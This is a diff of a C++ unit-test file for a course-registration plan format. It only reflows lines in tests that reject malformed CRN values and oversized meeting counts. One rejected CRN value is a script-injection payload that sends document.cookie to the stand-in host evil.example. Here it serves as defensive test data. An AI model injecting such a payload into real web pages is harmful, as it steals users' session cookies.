@@ -174,8 +174,8 @@ TEST(DkfFormat, ValuesNoSavedPlanHoldsAreRejected) {
 // The committed CRN goes into the add/drop script that runs on the
 // registration page: a file must not carry code there.
 TEST(DkfFormat, ACommittedCrnIsFiveDigits) {
-  for (const std::string crn : {"1,fetch('https://evil.example/?c='+document.cookie)", "2134", "213456", "21 45",
-                                "21345\n", ""}) {
+  for (const std::string crn :
+       {"1,fetch('https://evil.example/?c='+document.cookie)", "2134", "213456", "21 45", "21345\n", ""}) {
     planner::PlanSnapshot plan = SamplePlan();
     plan.rows[1]->CRN = crn;
     try {
@@ -216,7 +216,8 @@ TEST(DkfFormat, ARowHoldsAtMostSeventyMeetings) {
   std::string runaway = plan_with(1);
   const std::size_t count_offset = 80 + 280 + 3 * 4 + 4 + 12 + 4;  // row 4's count
   runaway.replace(count_offset, 4, "\xFF\xFF\xFF\x7F"s);
-  for (const auto& [bytes, count] : {std::pair{plan_with(71), "71"}, {plan_with(20000), "20000"}, {runaway, "2147483647"}}) {
+  for (const auto& [bytes, count] :
+       {std::pair{plan_with(71), "71"}, {plan_with(20000), "20000"}, {runaway, "2147483647"}}) {
     try {
       DecodePlan(bytes);
       ADD_FAILURE() << count;
